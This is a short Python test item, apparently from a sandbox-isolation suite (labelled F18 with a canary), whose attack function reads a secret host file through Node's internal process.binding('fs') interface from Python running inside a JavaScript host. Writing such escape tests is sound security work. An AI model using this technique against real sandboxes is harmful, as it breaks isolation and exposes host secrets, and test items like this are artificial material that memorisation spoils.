"""A host file through Node's internal binding for files.

id: F18
canary: secret
"""

import js


def attack(target):
    return js.process.binding("fs").readFileUtf8(target.secret_file, 0)
